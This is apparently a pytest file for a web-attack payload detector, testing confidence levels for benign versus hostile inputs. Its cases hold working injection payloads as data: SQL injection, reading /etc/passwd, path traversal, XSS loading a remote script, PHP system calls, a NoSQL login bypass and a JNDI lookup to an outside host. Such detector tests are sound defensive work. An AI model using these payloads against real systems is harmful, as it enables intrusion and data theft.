import pytest

from bavn.payloads.doubting import DOUBTED, SILENT, certainty

SURE = 0.9


@pytest.mark.parametrize(
    ("attack", "because", "text", "name", "expected"),
    [
        ("sql-injection", "select-statement", "select * from users", "q", DOUBTED),
        ("sql-injection", "select-statement", "select a from information_schema.tables", "q", SURE),
        ("sql-injection", "select-statement", "1 select a from b", "id", SURE),
        ("sql-injection", "boolean-after-number", "1=1 AND STATUS = 'x'", "where", SILENT),
        ("sql-injection", "boolean-after-number", "1=1 OR 1=1 -- ", "where", SURE),
        ("sql-injection", "where-after-value", '{"where": {"a": 1}}', "filter", SILENT),
        ("sql-injection", "delay", "sleep(1);", "q", DOUBTED),
        ("sql-injection", "delay", "sleep(5)", "q", SURE),
        ("sql-injection", "statement", "DELETE FROM users WHERE id = 5", "q", DOUBTED),
        ("sql-injection", "statement", "1 DELETE FROM users WHERE id = 5", "q", SURE),
        ("template-injection", "node-code", "function foo(bar) {", "q", DOUBTED),
        ("template-injection", "node-code", "(function(){ x() })()", "q", SURE),
        ("template-injection", "node-code", "require('fs').readdirSync('.')", "q", SURE),
        ("template-injection", "endless-loop", "while(true) { }", "q", DOUBTED),
        ("template-injection", "endless-loop", "';while(true);", "q", SURE),
        ("command-injection", "command-line", "grep -r foo src", "id", DOUBTED),
        ("command-injection", "command-line", "cat /etc/passwd", "id", SURE),
        ("command-injection", "command-line", "ipconfig /all", "cmd", SURE),
        ("path-traversal", "climbs", "../../Dokumenter", "dir", DOUBTED),
        ("path-traversal", "climbs", "../../config.php", "dir", SURE),
        ("path-traversal", "climbs", "../../../x", "dir", SURE),
        ("path-traversal", "climbs", "../../../src/app", "q", DOUBTED),
        ("cross-site-scripting", "script-call", "alert(1)", "q", DOUBTED),
        ("cross-site-scripting", "script-call", "');alert(1)//", "q", SURE),
        ("cross-site-scripting", "script-tag", "how does <script> work?", "q", DOUBTED),
        ("cross-site-scripting", "script-tag", "<script>alert(1)</script>", "q", SURE),
        ("cross-site-scripting", "script-tag", '<script src="//203.0.113.7/a"></script>', "q", SURE),
        ("cross-site-scripting", "event-handler", '<select onchange="f()">', "q", DOUBTED),
        ("cross-site-scripting", "event-handler", '<select onchange="alert()">', "q", SURE),
        ("php-injection", "function-call", 'date("Y")', "q", DOUBTED),
        ("php-injection", "function-call", 'system("id")', "q", SURE),
        ("php-injection", "function-call", "exec /* x */ (1)", "q", SURE),
        ("php-injection", "open-tag", "<?php", "q", DOUBTED),
        ("php-injection", "open-tag", "<?php echo 1;", "q", SURE),
        ("php-injection", "serialised-object", 'a:1:{i:0;s:1:"x";}', "data", DOUBTED),
        ("php-injection", "serialised-object", 'a:1:{i:0;O:1:"x":0:{}}', "data", SURE),
        ("nosql-injection", "operator-in-value", '{"age": {"$gt": 18}}', "filter", DOUBTED),
        ("nosql-injection", "operator-in-value", '{"password": {"$gt": ""}}', "filter", SURE),
        ("java-injection", "java-class", "org.springframework.boot", "a", DOUBTED),
        ("java-injection", "java-class", "java.lang.Runtime", "a", SURE),
        ("file-inclusion", "inside-host", "http://localhost:3000/callback", "redirect_uri", SILENT),
        ("file-inclusion", "inside-host", "http://localhost:3000/", "q", DOUBTED),
        ("file-inclusion", "inside-host", "http://localhost:3000/", "url", SURE),
        ("file-inclusion", "inside-host", "http://2130706433/", "redirect_uri", SURE),
        ("jndi-injection", "lookup", "${jndi:ldap://203.0.113.7/a}", "q", SURE),
    ],
)
def test_what_breaks_out_or_runs_is_sure_and_what_only_stands_there_is_not(
    attack: str, because: str, text: str, name: str, expected: float
) -> None:
    assert certainty((attack, because), text, name, SURE) == expected
